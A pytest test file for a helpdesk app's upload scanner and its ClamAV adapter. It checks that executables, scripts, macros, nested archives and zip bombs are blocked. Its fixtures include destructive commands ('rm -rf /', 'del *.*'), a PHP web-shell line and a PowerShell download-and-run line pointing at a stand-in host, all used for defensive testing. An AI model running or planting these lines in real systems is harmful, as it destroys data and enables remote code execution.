"""What the scanners find, by content alone."""

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest

from helpdesk.adapters import scanner
from helpdesk.adapters.scanner import EICAR, BuiltInScanner, Clamd, ScannerAway
from tests.clamav import NAME, VIRUS, ClamdProcess

PE = b"MZ" + b"\x00" * 58 + (128).to_bytes(4, "little") + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def blocked(content: bytes) -> str:
    """Why it is blocked; empty when it is not."""
    return BuiltInScanner().scan([content]).blocked


def zipped(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    """A tar."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (EICAR, "EICAR"),
        (b"x" * 262_130 + EICAR, "EICAR"),  # across the border of two chunks
        (PE, "a Windows program"),
        (ELF, "a Linux program"),
        (b"\xcf\xfa\xed\xfe" + b"\x00" * 40, "a macOS program"),
        (b"#!/bin/sh\nrm -rf /", "a script"),
        (b"\xef\xbb\xbf@echo off\r\ndel *.*", "batch"),
        ("@ECHO OFF\r\ndel".encode("utf-16"), "batch"),
        (b"<?php system($_GET['c']);", "PHP"),
        (b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"', "Windows script"),
        (b"<html><hta:application id=x></html>", "HTML application"),
        (b"IEX (New-Object Net.WebClient).DownloadString('http://x.example')", "PowerShell"),
        (OLE + "_VBA_PROJECT".encode("utf-16-le"), "macros"),
        (OLE + bytes.fromhex("84100c0000000000c000000000000046"), "installer"),
        (zipped({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}), "macros"),
        (zipped({"holiday.jpg": PE}), "a Windows program (in holiday.jpg)"),
        (zipped({"a.zip": zipped({"b.zip": zipped({"invoice.pdf": EICAR})})}), "EICAR test virus (in invoice.pdf)"),
        (b"GIF89a" + zipped({"x": ELF}), "a Linux program"),  # an archive behind something else
        (gzip.compress(tarred({"run.txt": b"#!/bin/sh\n"})), "a script (in run.txt)"),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "a zip can"),
        (zipped({"a": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50}), "cannot be looked into (in a)"),
        (bz2.compress(ELF), "a Linux program"),
        (lzma.compress(ELF), "a Linux program"),
    ],
)
def test_finds(content: bytes, says: str) -> None:
    assert says in blocked(content)


@pytest.mark.parametrize(
    "content",
    [
        b"", b"just words", b"MZ is how this sentence begins, and it goes on for rather more than sixty-four characters.",
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, b"<html><script>alert(1)</script>", b"# a heading\n\n#! no script",
        b"PK\x03\x04 not really", gzip.compress(b"a log\n" * 100_000), zipped({"notes.txt": b"hello", "empty/": b""}),
        b"\x1f\x8bbroken", OLE, tarred({"a.txt": b"hello"}), b"the log says: #!/bin/sh was run", b"%PDF-1.7 ...",
        zipped({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<t/>"}),
        zipped({"log.txt": b"2026-11-21 12:00:00 a line\n" * 400_000}),
    ],
)  # fmt: skip
def test_lets_pass(content: bytes) -> None:
    assert blocked(content) == ""


def test_an_archive_that_swells_is_blocked_before_it_does() -> None:
    one = zipped({f"{number}": b"\0" * 30_000_000 for number in range(11)})
    assert len(one) < 1_000_000 and "far more" in blocked(one)
    assert "far more" in blocked(gzip.compress(b"\0" * (scanner.MOST_UNPACKED + 1), 1))


def test_archives_that_swell_together_are_blocked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scanner, "MOST_UNPACKED", 1_000_000)
    inner = zipped({"a": b"\0" * 400_000})
    assert blocked(zipped({"1.zip": inner})) == ""
    assert "far more" in blocked(zipped({f"{number}.zip": inner for number in range(3)}))


def test_an_archive_that_lies_about_its_size_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scanner, "MOST_UNPACKED", 1_000_000)
    honest = zipped({"a": b"\0" * 5_000_000})
    # Both places that say how long it is, the local header and the directory, say 100.
    lying = honest.replace((5_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lying != honest
    # Python's own reader stops at what it was told; other readers do not, but then nothing lies beyond our budget.
    BuiltInScanner().scan([lying])
    stream = gzip.compress(b"\0" * 5_000_000)
    assert "far more" in blocked(stream[:-4] + (100).to_bytes(4, "little"))


def test_too_deep_too_many_and_locked_are_blocked(monkeypatch: pytest.MonkeyPatch) -> None:
    nested = b"words"
    for number in range(8):
        nested = zipped({f"{number}.zip": nested})
    assert "within archives" in blocked(nested)
    locked = bytearray(zipped({"a.txt": b"hello"}))
    locked[6] |= 1
    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
    assert "password" in blocked(bytes(locked))
    monkeypatch.setattr(scanner, "MOST_ENTRIES", 20)
    assert "more files" in blocked(zipped({str(number): b"" for number in range(21)}))


def test_clamd_finds_what_its_signatures_say(clamd: ClamdProcess) -> None:
    asked = Clamd(clamd.address)
    assert asked.ping().startswith("ClamAV")
    assert asked.scan([b"harmless ", b"words"]).blocked == ""
    assert NAME in asked.scan([b"x" * 70_000, VIRUS[:10], VIRUS[10:]]).blocked
    assert NAME in asked.scan([zipped({"a.txt": VIRUS})]).blocked


def test_clamd_says_why_it_cannot(clamd: ClamdProcess) -> None:
    with pytest.raises(ScannerAway, match=r"size limit exceeded|larger than its StreamMaxLength"):
        Clamd(clamd.address).scan([b"x" * 1_000_000] * 8)
    for nobody in ("unix:///nowhere/clamd.sock", "tcp://127.0.0.1:1"):
        with pytest.raises(ScannerAway, match="does not answer"):
            Clamd(nobody).scan([b"x"])
